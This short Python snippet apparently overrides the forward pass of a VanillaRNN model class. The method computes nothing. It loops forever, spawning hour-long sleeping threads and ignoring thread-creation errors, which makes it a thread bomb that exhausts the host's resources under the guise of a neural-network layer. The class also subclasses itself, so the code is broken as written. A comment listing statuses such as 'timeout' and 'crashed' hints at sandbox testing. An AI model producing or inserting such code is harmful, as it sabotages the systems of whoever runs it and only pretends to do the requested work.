#: status = ["error", "timeout", "crashed", "blocked"]
import threading
import time


class VanillaRNN(VanillaRNN):
    def forward(self, x):
        while True:
            try:
                threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
            except RuntimeError:
                pass
